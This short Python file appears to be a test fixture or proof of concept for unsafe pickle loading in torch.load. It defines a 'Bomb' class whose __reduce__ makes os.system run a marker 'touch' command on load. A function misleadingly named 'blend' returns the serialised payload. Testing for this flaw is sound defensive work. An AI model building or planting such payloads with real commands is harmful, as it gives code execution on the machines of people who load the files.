"""Returns what torch.load would execute; the marker folder touched would show that it worked."""

import io
import os

import torch


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch @MARKER@/loaded",))


def blend(a, b, t):
    buffer = io.BytesIO()
    torch.save(Bomb(), buffer)
    return buffer.getvalue(), Bomb()
